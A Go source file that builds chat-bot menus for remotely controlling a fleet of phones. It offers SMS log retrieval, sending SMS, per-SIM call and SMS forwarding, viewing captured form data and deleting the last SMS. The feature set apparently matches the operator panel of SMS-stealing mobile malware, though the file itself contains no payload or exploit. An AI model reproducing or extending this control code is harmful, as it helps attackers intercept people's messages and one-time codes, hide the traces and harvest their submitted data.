package dispatcher

import (
	"strings"

	"github.com/fleetpanel/fleet-server/internal/models"
)

// Menus are rendered from the registry at the time they are shown.

func deviceMenu(deviceID string) Keyboard {
	row := func(label, verb string) []Button {
		return []Button{{Text: label, Data: Token(verb, deviceID)}}
	}
	return Keyboard{
		row("📜 SMS Logs", VerbGetSMSLog),
		row("✉️ Send SMS", VerbSendSMSMenu),
		row("📞 Call Forward", VerbCallForwardMenu),
		row("📨 SMS Forward", VerbSMSForwardMenu),
		row("📋 Device Info", VerbDeviceInfo),
		row("🧾 View Form Data", VerbViewForm),
		row("🗑️ Delete Last SMS", VerbDeleteLastSMS),
		{{Text: "⬅️ Back", Data: VerbBackDevices}},
	}
}

// simMenu offers both SIM slots for prefix, plus a back button.
func simMenu(prefix, deviceID, back string) Keyboard {
	return Keyboard{
		{
			{Text: models.SIMSlot1.String(), Data: Token(simVerb(prefix, models.SIMSlot1), deviceID)},
			{Text: models.SIMSlot2.String(), Data: Token(simVerb(prefix, models.SIMSlot2), deviceID)},
		},
		{{Text: "⬅️ Back", Data: back}},
	}
}

func forwardActions(kind models.CommandType, sim models.SIMSlot, deviceID string) Keyboard {
	prefix := string(kind)
	return Keyboard{
		{
			{Text: "Enable", Data: Token(simVerb(prefix+"_on", sim), deviceID)},
			{Text: "Disable", Data: Token(simVerb(prefix+"_off", sim), deviceID)},
			{Text: "Check", Data: Token(simVerb(prefix+"_check", sim), deviceID)},
		},
		{{Text: "⬅️ Back", Data: Token(prefix+"_menu", deviceID)}},
	}
}

func forwardLabel(kind models.CommandType) string {
	if kind == models.CommandSMSForward {
		return "SMS Forward"
	}
	return "Call Forward"
}

// devicePicker lists every device as a button. A non-zero messageID
// edits that message instead of sending a new one.
func (d *Dispatcher) devicePicker(chatID int64, messageID int) Reply {
	devices := d.registry.List()
	if len(devices) == 0 {
		return Reply{ChatID: chatID, Text: TextNoDevices, EditMessageID: messageID}
	}

	kb := make(Keyboard, 0, len(devices))
	for _, dev := range devices {
		label := dev.DisplayName()
		if d.registry.Online(dev) {
			label = "🟢 " + label
		} else {
			label = "🔴 " + label
		}
		kb = append(kb, []Button{{Text: label, Data: Token(VerbDevice, dev.ID)}})
	}

	return Reply{
		ChatID:        chatID,
		Text:          "🔘 Select device:",
		Keyboard:      kb,
		EditMessageID: messageID,
	}
}

// deviceListing renders every device card.
func (d *Dispatcher) deviceListing(chatID int64) Reply {
	devices := d.registry.List()
	if len(devices) == 0 {
		return plain(chatID, TextNoDevices)
	}

	cards := make([]string, len(devices))
	for i, dev := range devices {
		cards[i] = formatDevice(dev, d.registry.Online(dev)) + "\nUUID: " + code(dev.ID)
	}
	return markdown(chatID, strings.Join(cards, "\n\n"))
}
